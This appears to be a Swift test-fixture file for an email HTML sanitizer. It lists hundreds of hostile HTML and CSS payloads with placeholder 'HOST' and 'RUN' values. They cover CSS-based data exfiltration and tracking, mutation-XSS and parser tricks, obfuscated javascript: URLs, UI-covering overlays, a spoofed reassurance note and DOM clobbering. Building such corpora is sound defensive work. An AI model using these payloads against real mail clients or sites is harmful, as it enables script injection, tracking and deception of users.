/// Attacks that came after the first hundred: newer parts of HTML and CSS, and ways to be read otherwise than one is.
///
/// Written for these tests, with the same words as ``MailAttacks``.
enum UnforeseenAttacks {
    static let all: [String] = sheets + styles + covering + parsing + elements + handlers + heads + names

    /// Style sheets that load, read what is on the page, or reach beyond the mail.
    static let sheets = [
        "<style>@import\"HOST/s1\" layer(x) supports(display:grid);</style>",
        "<style>@\\69mport url(HOST/s2)screen;</style>", "<style>@charset \"x\";@import/**/'HOST/s3';</style>",
        "<style>@font-face{font-family:m;src:local(x),url(HOST/s4?a);unicode-range:U+0061}*{font-family:m}</style><p>abc",
        "<style>@font-face{font-family:Arial;src:url('HOST/s5')format(woff2)tech(variations)}</style><p>abc",
        "<style>@property --p{syntax:'<image>';inherits:true;initial-value:url(HOST/s6)}*{background:var(--p)}</style><p>x",
        "<style>@counter-style c{system:cyclic;symbols:url(HOST/s7)}li{list-style:c}</style><ul><li>x</ul>",
        "<style>@font-palette-values --x{font-family:m;base-palette:1}@color-profile --c{src:url(HOST/s8)}</style><p>x",
        "<style>@namespace url(HOST/s9);*{color:red}</style><p>x",
        "<style>@scope (:root){:scope{display:none}}@scope{body{background:url(HOST/s10)}}</style><p>x",
        "<style>@layer a{body{background:url(HOST/s11)}}@container (width>1px){body{background:url(HOST/s12)}}</style>",
        "<style>@starting-style{p{background:url(HOST/s13)}}@view-transition{navigation:auto}</style><p>x",
        "<style>@supports (display:grid){body{background:url(HOST/s14)}}</style><p>x",
        "<style>@page{background:url(HOST/s15);@top-left{content:url(HOST/s16)}}</style><p>x",
        "<style>@document url(HOST){body{display:none}}@-moz-document url-prefix(){body{background:url(HOST/s17)}}</style>",
        "<style>@keyframes k{to{background:url(HOST/s18)}}p{animation:k linear;animation-timeline:scroll(root)}</style><p>x",
        "<style>body:has(a[href*=secret]){background:url(HOST/s19)}p:has(>b){background:url(HOST/s20)}</style><p><b>x</b>",
        "<style>a[href^='https://s']{background:url(HOST/s21)}[class*=m]{background:url(HOST/s22)}</style><a href='https://s.example'>x</a>",
        "<style>html:has(.mail-root) .notes{display:none!important}.notes,.note,.more,.choice{display:none!important}</style><p>x",
        "<style>:is(body,html){display:none}:where(.notes){opacity:0}:not(x){visibility:hidden}</style><p>x",
        "<style>p{&{background:url(HOST/s23)}body &{display:none}@media all{background:url(HOST/s24)}}</style><p>x",
        "<style>.mail-root{& ~ *{display:none}}.mail-root ~ .more,.mail-root + *{display:none}</style><p>x",
        "<style>::view-transition{background:url(HOST/s25)}::backdrop{background:url(HOST/s26)}p::part(x){color:red}</style><p>x",
        "<style>p::before{content:url(HOST/s27)/'alt'}p::marker{content:url(HOST/s28)}p::selection{background:url(HOST/s29)}</style><p>x",
        "<style>p::first-letter{background:url(HOST/s30)}p::after{content:attr(title);background:url(HOST/s31)}</style><p title=x>x",
        "<style>:target{background:url(HOST/s32)}:target-text{background:url(HOST/s33)}</style><p id=x>x",
        "<style media='not all'>p{}</style><style media=all onload=RUN>p{background:url(HOST/s34)}</style><p>x",
        "<style>/*</style><img src='HOST/s35' width=40 height=40><style>*/p{color:red}</style>",
        "<style></styl\u{0}e>p{background:url(HOST/s36)}</style x='><img src=HOST/s37 onerror=RUN>'><p>x",
        "<style type='text/css; x='>p{background:URL( 'HOST/s38' )}</style><p>x",
        "<style>p{color:red;} \u{FEFF}body{display:none} .mail-root,body{background:url(HOST/s39)}</style><p>x",
        "<style>\\62 ody{display:none}h\\74ml{display:none}\\2e notes{display:none}</style><p>x",
        "<style>@media (prefers-color-scheme:dark){p{background:url(HOST/s40)}}@media print{p{background:url(HOST/s41)}}</style><p>x",
        "<style>@media (min-width:url(HOST/s42)){p{color:red}}@media (--x){p{background:url(HOST/s43)}}</style><p>x",
    ]

    /// Declarations that load in places where one does not look.
    static let styles = [
        "<p style='background:\\75\\72\\6c(HOST/d1)'>x</p>", "<p style='background:u\\rl(HOST/d2)'>x</p>",
        "<p style='background:\\000055RL(HOST/d3)'>x</p>", "<p style='background:u/**/rl(HOST/d4)'>x</p>",
        "<p style='background:url(/**/HOST/d5)'>x</p>", "<p style='background:url(HOST/d6'>x</p>",
        "<p style='background:ｕｒｌ(HOST/d7)'>x</p>",
        "<p style='background:url(\"HOST/d8\" crossorigin(anonymous))'>x</p>",
        "<p style='background:src(\"HOST/d9\")'>x</p>", "<p style='background:image(\"HOST/d10\",red)'>x</p>",
        "<p style='background:cross-fade(url(HOST/d11) 50%,url(HOST/d12))'>x</p>",
        "<p style='background:image-set(\"HOST/d13\" type(\"image/png\"))'>x</p>",
        "<p style='background:-webkit-cross-fade(url(HOST/d14),url(HOST/d15),.5)'>x</p>",
        "<p style='background:element(#x),paint(y),-webkit-canvas(z)'>x</p>",
        "<p style='background:env(x,url(HOST/d16))'>x</p>",
        "<p data-u='HOST/d17' style='background:attr(data-u type(<image>))'>x</p>",
        "<p style='--a:url(HOST/d18);--b:var(--a);background:var(--b,url(HOST/d19))'>x</p>",
        "<p style='background:if(style(--a:b):url(HOST/d20);else:url(HOST/d21))'>x</p>",
        "<p style='cursor:image-set(url(HOST/d22) 1x),auto'>x</p>", "<p style='list-style:\"x\" url(HOST/d23)'>x</p>",
        "<p style='mask-image:url(HOST/d24);-webkit-mask-box-image:url(HOST/d25);-webkit-box-reflect:below 0 url(HOST/d26)'>x</p>",
        "<p style='border-image-source:url(HOST/d27);shape-outside:url(HOST/d28);clip-path:url(HOST/d29#x);offset-path:url(HOST/d30#x)'>x</p>",
        "<p style='fill:url(HOST/d31#x);stroke:url(HOST/d32#x);marker-start:url(HOST/d33#x);backdrop-filter:url(HOST/d34#x)'>x</p>",
        "<p style='background:red;background-image:linear-gradient(red,url(HOST/d35))'>x</p>",
        "<font face='x;background:url(HOST/d36)' color='red;background:url(HOST/d37)'>x</font>",
        "<td bgcolor='red;background:url(HOST/d38)' width='1;background:url(HOST/d39)'>x</td>",
        "<p style=\"font-family:'x';background:url(HOST/d40)\">x</p><p style=\"font-family:'\\a';background:url(HOST/d41)\">x</p>",
        "<p style='color:red&#59;background&#58;url&#40;HOST/d42&#41;'>x</p>",
        "<p style='{}background:url(HOST/d43)'>x</p><p style=';;*background:url(HOST/d44)'>x</p>",
        "<p style='background:url(data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage%20href=%22HOST/d45%22/%3E%3C/svg%3E)'>x</p>",
        "<p style='background:linear-gradient(in oklch,red,blue),conic-gradient(url(HOST/d46),red)'>x</p>",
    ]

    /// What would lie over the words above the mail, grow without end, or take the page's room.
    static let covering = [
        "<div style='display:flex;flex-direction:column;justify-content:flex-end;height:0'><div style='height:900px;background:red'>x</div></div>",
        "<div style='display:flex;align-items:flex-end;height:0'><div style='height:900px;background:red'>x</div></div>",
        "<div style='display:flex;align-items:center;height:1px'><div style='height:900px;background:red'>x</div></div>",
        "<div style='margin-top:calc(0px - 900px);background:red'>x</div>",
        "<div style='margin:min(0px,1px - 900px)'>x</div>",
        "<div style='inset:0;position:sticky;top:-900px;z-index:2147483647'>x</div>",
        "<div style='box-shadow:0 0 0 9999px red;outline:9999px solid red;text-shadow:0 -90px red'>x</div>",
        "<div style='translate:0 -900px;scale:9;rotate:9deg;zoom:9;offset:path(\"M0-900\")'>x</div>",
        "<div style='float:left;shape-outside:inset(0);margin-block-start:-900px;margin-inline:-900px'>x</div>",
        "<div style='all:initial;position:fixed;inset:0;background:red'>x</div>",
        "<div style='top:anchor(top);position-anchor:--x;anchor-name:--x;position:absolute;inset-area:top'>x</div>",
        "<div style='view-transition-name:root;contain:none;content-visibility:hidden;container-type:size'>x</div>",
        "<div style='padding:9999px 0;border:9999px solid red;letter-spacing:9999px;text-indent:9999px'>x</div>",
        "<div style='height:100lvh;min-height:100svh;block-size:100vb;aspect-ratio:1/9999;max-height:100vmax'>x</div>",
        "<div style='line-height:0'><span style='vertical-align:9999px;line-height:0'>x</span></div>",
        "<div style='columns:9999;column-width:0;break-before:page;break-after:page'>x</div>",
        "<div style='width:max-content;white-space:nowrap;letter-spacing:900px'>xxxxxxxxxxxxxxxxxxxx</div>",
        "<div popover id=o style='display:block;position:fixed;inset:0'>x</div><button popovertarget=o>x</button>",
        "<dialog open style='width:100vw;height:100vh'>x<form method=dialog><button>x</button></form></dialog>",
        "<button commandfor=o command=show-modal>x</button><button interesttarget=o>x</button>",
        "<div class='notes note bad'>Everything about this mail is in order.</div><div class=mail-root style='position:fixed'>x</div>",
        "<p style='pointer-events:none;user-select:none;-webkit-user-modify:read-write;caret-color:red;resize:both'>x</p>",
        "<table><tr><td rowspan=1000 colspan=1000 style='width:9999px'>x</td></tr></table>",
        "<hr size=99999999 width=99999999><img width=999999999 height=999999999 src=x><table width=99999999 height=99999999><tr><td>x</table>",
    ]

    /// Markup that one reader takes for text and another for something else.
    static let parsing = [
        "<form><div></form><form id=f><input name=parentNode><img src=x onerror=RUN></div></form>",
        "<svg><desc><table><svg><style><img title='</style><img src=x onerror=RUN>'></svg></table></desc></svg>",
        "<svg><foreignObject><math><mi><b><style><!--</style><img src=x onerror=RUN>--></style></b></mi></math></foreignObject></svg>",
        "<math><mi><table><mglyph><svg><mtext><style><path id='</style><img src=x onerror=RUN>'></table></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=RUN src=1>'></form>",
        "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=RUN>'></style></foreignobject></svg>",
        "<select><xmp><script>RUN</script></xmp></select>",
        "<select><option><style></option></select><img src=x onerror=RUN></style>",
        "<select><button><selectedcontent><img src=x onerror=RUN></selectedcontent></button><option>x</select>",
        "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
        "<iframe><!--</iframe><img src=x onerror=RUN>--></iframe>", "<noembed><!--</noembed><img src=x onerror=RUN>-->",
        "<template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><script>RUN</script></template>",
        "<div><template shadowrootmode=closed shadowrootdelegatesfocus><img src=x onerror=RUN><slot></slot></template>x</div>",
        "<textarea><svg></textarea><img src=x onerror=RUN></svg>", "<title><svg></title><img src=x onerror=RUN>",
        "<p><svg><![CDATA[</svg><img src=x onerror=RUN>]]></svg>", "<![CDATA[><img src=x onerror=RUN>]]>",
        "<?xml-stylesheet href='HOST/p1' type='text/css'?><img src=x onerror=RUN>", "<?x ><img src=x onerror=RUN>?>",
        "<!DOCTYPE html SYSTEM 'HOST/p2' [<!ENTITY x SYSTEM 'HOST/p3'>]><p>&x;</p>",
        "<table><caption><svg><title><table></table><style><a id='</style><img src=x onerror=RUN>'></style></title></svg></caption></table>",
        "<a><svg><a><style><a title='</style><img src=x onerror=RUN>'></style></a></svg></a>",
        "<img alt='x' alt=\"' onerror=RUN src=x\">", "<p title=`<img src=x onerror=RUN>`>x</p>",
        "<p \u{2028}onclick=RUN \u{85}onfocus=RUN>x</p>", "<im\u{AD}g src=x onerror=RUN>",
        "<img\u{B}src=x\u{B}onerror=RUN>",
        "<IMG SRC=x ONERROR\u{20}=\u{9}'RUN'>", "<img src=\"x\"\u{A0}onerror=RUN>",
        "<svg><\u{131}mg src=x onerror=RUN></svg>",
        "<ſcript>RUN</ſcript><\u{212A}eygen autofocus onfocus=RUN>",
        "&#60;img src=x onerror=RUN&#62;<img src=&quot;x&quot;onerror=RUN>",
        deep("<svg><style><a title='</style><img src=x onerror=RUN>'></style></svg>"),
        deep(
            "<math><mtext><table><mglyph><style><img title='</style><img src=x onerror=RUN>'></style></table></mtext></math>"
        ),
    ]

    /// Below more elements than a browser nests, beyond which it puts them side by side.
    private static func deep(_ attack: String) -> String {
        String(repeating: "<div>", count: 600) + attack + String(repeating: "</div>", count: 600)
    }

    /// Elements and attributes that load, lead away, or are new.
    static let elements = [
        "<img srcset='HOST/e1 1x,HOST/e2 2x' sizes=auto loading=eager fetchpriority=high width=40>",
        "<img src='//HOST/e3' crossorigin=use-credentials referrerpolicy=unsafe-url attributionsrc='HOST/e4' width=40>",
        "<a href='HOST/e5' ping='HOST/e6' attributionsrc='HOST/e7' download=x>x</a>",
        "<a href='HOST/e8' target=_self>x</a><a href='HOST/e9' target=_top>x</a><area href='HOST/e10' target=_parent>",
        "<object data='HOST/e11' type='image/svg+xml'><embed src='HOST/e12' type='text/html'></object>",
        "<portal src='HOST/e13'></portal><fencedframe src='HOST/e14'></fencedframe><webview src='HOST/e15'></webview>",
        "<frameset><frame src='HOST/e16'><noframes><img src='HOST/e17'></noframes></frameset>",
        "<video controls poster='HOST/e18' src='HOST/e19'><track default src='HOST/e20'></video><audio controls src='HOST/e21'></audio>",
        "<svg><filter id=f><feImage href='HOST/e22'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
        "<svg><style>@import 'HOST/e23';</style><image xlink:href='HOST/e24'/><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
        "<svg><a><animate attributeName=href values='javascript:RUN' begin=0s /><text y=9>x</text></a><discard onbegin=RUN /></svg>",
        "<math><mi xlink:href='javascript:RUN'>x</mi><maction actiontype='statusline#x' href='javascript:RUN'>x</maction></math>",
        "<form action='HOST/e25' method=post target=_top id=f></form><button form=f formaction='javascript:RUN' autofocus>x</button>",
        "<input type=image src='HOST/e26' formaction='HOST/e27'><input type=hidden name=form-token value=x>",
        "<button type=submit formtarget=_top formaction='HOST/e28'>x</button><output onformdata=RUN>x</output>",
        "<details open name=a ontoggle=RUN><summary>x</summary><img src='HOST/e29' width=40></details>",
        "<p hidden=until-found onbeforematch=RUN>x</p><p contenteditable autofocus onfocus=RUN tabindex=1 accesskey=x>x</p>",
        "<model src='HOST/e30'></model><geolocation onlocation=RUN></geolocation><permission type=camera onpromptaction=RUN></permission>",
        "<a href='javascript:RUN' href='https://a.example'>x</a><a HREF='&#x6A;avascript&#x3A;RUN'>x</a>",
        "<a href='javascript\u{2028}:RUN'>x</a><a href='\u{FEFF}javascript:RUN'>x</a><a href='java\u{0}script:RUN'>x</a>",
        "<a href='JaVaScRiPt&#0000058RUN'>x</a><a href='&Tab;javascript&NewLine;:RUN'>x</a><a href='javascript:/*HOST*/RUN'>x</a>",
        "<a href='blob:HOST/e31'>x</a><a href='filesystem:HOST/e32'>x</a><a href='ms-word:ofe|u|HOST/e33'>x</a><a href='steam://run/1'>x</a>",
        "<a href='data:text/html;charset=utf-7;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a><a href='data:application/xhtml+xml,<x/>'>x</a>",
        "<img src='cid:none' width=40><img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+' width=40>",
    ]

    /// Events that newer browsers have.
    static let handlers = [
        "<p onsecuritypolicyviolation=RUN>x</p><img src='HOST/h1' width=40>",
        "<p onbeforetoggle=RUN ontoggle=RUN popover>x</p>",
        "<p onscrollend=RUN onscrollsnapchange=RUN style='overflow:scroll;height:9px'>x<br>x</p>",
        "<p oncontentvisibilityautostatechange=RUN style='content-visibility:auto'>x</p>",
        "<p onpointerrawupdate=RUN onwheel=RUN onauxclick=RUN onbeforeinput=RUN>x</p>",
        "<p oncommand=RUN onclose=RUN oncancel=RUN>x</p>",
        "<p onanimationstart=RUN ontransitionrun=RUN style='animation:a 1s;transition:all 1s'>x</p>",
        "<p onfocusin=RUN onpaste=RUN oncopy=RUN onselectionchange=RUN onselectstart=RUN tabindex=0>x</p>",
        "<marquee onfinish=RUN onbounce=RUN loop=1>x</marquee><blink onclick=RUN>x</blink>",
        "<body onafterprint=RUN onmessage=RUN onpagereveal=RUN onunhandledrejection=RUN><p>x",
        "<xss-probe onclick=RUN is=x-y slot=a part=b>x</xss-probe><p onClick\u{2F}=RUN>x</p>",
    ]

    /// What belongs into the head of a page and changes how the rest is taken.
    static let heads = [
        "<meta http-equiv=Content-Security-Policy content='default-src *'><meta name=referrer content=unsafe-url>",
        "<meta http-equiv=x-dns-prefetch-control content=on><a href='HOST/m1'>x</a>",
        "<meta http-equiv='refresh' content='0;&#x75;rl=HOST/m2'><meta http-equiv=\"&#114;efresh\" content=\"0,HOST/m3\">",
        "<meta http-equiv=origin-trial content=x><meta http-equiv=accept-ch content=dpr><meta http-equiv=set-cookie content=a=b>",
        "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-",
        "<base href='HOST/' target=_top><a href=m4>x</a><img src=m5 width=40>",
        "<link rel=modulepreload href='HOST/m6'><link rel=preconnect href='HOST'><link rel=prerender href='HOST/m7'>",
        "<link rel=expect blocking=render href='#never'><link rel=manifest href='HOST/m8'><link rel=pingback href='HOST/m9'>",
        "<link rel=stylesheet href='data:text/css,@import%20%22HOST/m10%22'><link rel='alternate stylesheet' href='HOST/m11' title=x>",
        "<link rel=preload as=image imagesrcset='HOST/m12 1x'><link rel=compression-dictionary href='HOST/m13'>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"HOST/m14\"]}]}</script>",
        "<script type=importmap>{\"imports\":{\"x\":\"HOST/m15\"}}</script><script type=module>import 'x'</script>",
        "<html manifest='HOST/m16' onload=RUN style='display:none' class=adapt><p>x",
        "<head profile='HOST/m17'><isindex prompt=x action='HOST/m18'>",
    ]

    /// Names of ours that a mail takes for itself.
    static let names = [
        "<p class='mail-root paper plain adapt note bad' id=subject data-part=list data-key=x>x</p>",
        "<img name=documentElement><img id=body><form name=contentDocument><input name=URL></form><a id=defaultView>x</a>",
        "<a id=performance>x</a><a name=customElements>x</a><img name=attacked><object id=origin></object><embed name=top>",
        "<conversation-view data-id=x>x</conversation-view><inbox-list data-address=HOST>x</inbox-list><message-frame><iframe src='HOST/n1'></iframe></message-frame>",
    ]
}
